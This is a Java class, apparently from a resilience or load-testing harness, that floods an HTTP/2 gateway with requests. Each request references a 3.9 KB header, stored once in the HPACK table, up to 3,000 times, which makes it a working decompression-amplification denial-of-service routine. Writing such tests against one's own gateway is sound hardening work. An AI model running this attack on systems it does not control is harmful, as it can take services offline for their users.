package dev.opportune.perf.attack.http2;

import dev.opportune.perf.attack.Attack;
import dev.opportune.perf.attack.Crowd;
import dev.opportune.perf.attack.Pace;
import dev.opportune.perf.attack.Target;
import dev.opportune.perf.attack.wire.Frame;
import dev.opportune.perf.attack.wire.Hpack;
import dev.opportune.perf.attack.wire.Http2;
import java.io.IOException;
import java.util.concurrent.atomic.LongAdder;

/// A header of nearly 4 KB that the gateway is asked to remember, and then one byte each for it again.
public final class HpackReferences implements Attack {

    private static final int CLIENTS = 8;
    private static final int STREAMS_A_SECOND = 200;
    private static final String VALUE = "v".repeat(3_900);
    private static final int FEW = 3; // within what headers may have
    private static final int MANY = 3_000;
    private static final long RECONNECT_MILLIS = 20;

    @Override
    public String name() {
        return "hpack-references";
    }

    @Override
    public String what() {
        return "8 clients, 200 requests a second each that name a header of 3.9 KB again, 3 times (held open) or 3,000 "
                + "times; no key";
    }

    @Override
    public void run(Target target) throws InterruptedException {
        var streams = new LongAdder();
        var connections = new LongAdder();
        int _ = Crowd.run(target, CLIENTS, client -> {
            while (!target.isOver()) {
                try (var http2 = target.http2()) {
                    connections.increment();
                    refer(target, http2, client % 2 == 0 ? FEW : MANY, streams);
                } catch (IOException _) {
                    // the next one
                }
                Thread.sleep(RECONNECT_MILLIS);
            }
        });
        target.tell(streams.sum() + " requests on " + connections.sum() + " connections");
    }

    private static void refer(Target target, Http2 http2, int times, LongAdder streams)
            throws IOException, InterruptedException {
        var first = Hpack.request("POST", "/v1/sends", "").remembered("x-large", VALUE);
        http2.send(Frame.HEADERS, Frame.END_HEADERS | Frame.END_STREAM, http2.newStream(), first.bytes());
        var block = Hpack.request("POST", "/v1/sends", "");
        for (int i = 0; i < times; i++) block = block.again();
        var pace = Pace.perSecond(STREAMS_A_SECOND);
        while (!target.isOver() && !http2.isOver()) {
            pace.next();
            http2.send(Frame.HEADERS, Frame.END_HEADERS, http2.newStream(), block.bytes());
            http2.flush();
            streams.increment();
        }
    }
}
